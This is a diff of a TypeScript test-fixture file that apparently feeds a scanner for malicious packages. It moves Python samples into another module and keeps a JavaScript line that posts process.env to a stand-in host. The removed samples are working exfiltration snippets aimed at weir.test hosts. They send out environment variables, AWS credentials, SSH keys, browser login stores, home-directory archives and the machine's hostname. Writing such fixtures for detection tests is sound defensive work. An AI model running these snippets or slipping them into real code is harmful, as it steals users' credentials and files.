@@ -1,6 +1,6 @@
 import type { Samples } from '../contract.ts';
 import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
-import { GIVEN } from './given-samples.ts';
+import { PYTHON } from './python-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
 
@@ -10,78 +10,7 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 
 export const samples: Samples = {
   malicious: [
-    {
-      name: 'Python: the environment, as another module of the package gives it',
-      files: {
-        ...wheel(
-          "import requests\nfrom .facts import told\nrequests.post('https://a.weir.test/x', json=told())\n",
-        ),
-        'own/facts.py': 'import os\ndef told():\n    return dict(os.environ)\n',
-      },
-      expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: a key that is uploaded by its path',
-      files: wheel(
-        "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
-      ),
-      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: keys that a folder lists',
-      files: wheel(
-        "import pathlib, requests\nfor key in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    requests.post('https://a.weir.test/k', files={'f': key.read_bytes()})\n",
-      ),
-      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: folders in an archive of its own',
-      files: wheel(
-        "import os, zipfile, requests\nout = zipfile.ZipFile('/tmp/own.zip', 'w')\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        out.write(os.path.join(at, name))\nout.close()\nrequests.post('https://a.weir.test/z', files={'f': open('/tmp/own.zip', 'rb')})\n",
-      ),
-      expected: [{ rule: 'files', file: 'own/__init__.py', line: 7, severity: 'high' }],
-    },
-    {
-      name: 'Python: a copy of a browser store, in a function',
-      files: wheel(
-        "import os, requests, shutil, sqlite3\ndef grab():\n    shutil.copy2(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'own.db')\n    rows = sqlite3.connect('own.db').execute('select 1').fetchall()\n    requests.post('https://a.weir.test/b', json=rows)\n",
-      ),
-      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 5, severity: 'high' }],
-    },
-    ...GIVEN,
-    {
-      name: 'Python: who the machine is, inside and outside',
-      files: wheel(
-        'import requests, socket\ndef tell():\n    seen = requests.get("https://address.weir.test").text\n    requests.get("http://a.weir.test:4242/log", params={"in": socket.gethostname(), "out": seen})\n',
-      ),
-      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 4, severity: 'high' }],
-    },
-    {
-      name: 'Python: the content of files that a folder lists',
-      files: wheel(
-        'import os, requests\nfor name in os.listdir(os.path.expanduser("~/Documents")):\n    requests.post("https://a.weir.test/x", data=open(name).read())\n',
-      ),
-      expected: [{ rule: 'files', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: the name of the machine to a free host, in a function',
-      files: wheel(
-        'import platform, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json={"on": platform.node()})\n',
-      ),
-      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: the environment to a free host, in a function',
-      files: wheel(
-        'import os, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json=dict(os.environ))\n',
-      ),
-      expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
-    },
-    {
-      name: 'Python: the name of the machine below a zone',
-      files: wheel('import socket\nsocket.gethostbyname(socket.gethostname() + ".own.names.weir.test")\n'),
-      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 2, severity: 'high' }],
-    },
+    ...PYTHON,
     {
       name: 'the environment in a request body',
       files: installed(
@@ -182,16 +111,6 @@ export const samples: Samples = {
         'lib/deep.js': `exports.run = () => {\n  ${STEAL};\n};\n`,
       }),
       expected: [at('environment', 'high', 2, 'lib/deep.js')],
-    },
-    {
-      name: 'Python: called at load, behind a module that only hands it on',
-      files: {
-        ...wheel('from .lib import run\nrun()\n'),
-        'own/lib.py': 'from .deep import run\n',
-        'own/deep.py':
-          "import os, requests\ndef run():\n    requests.post('https://a.weir.test/x', json=dict(os.environ))\n",
-      },
-      expected: [{ rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' }],
     },
     {
       name: 'a method of a class in another file, as an event handler',
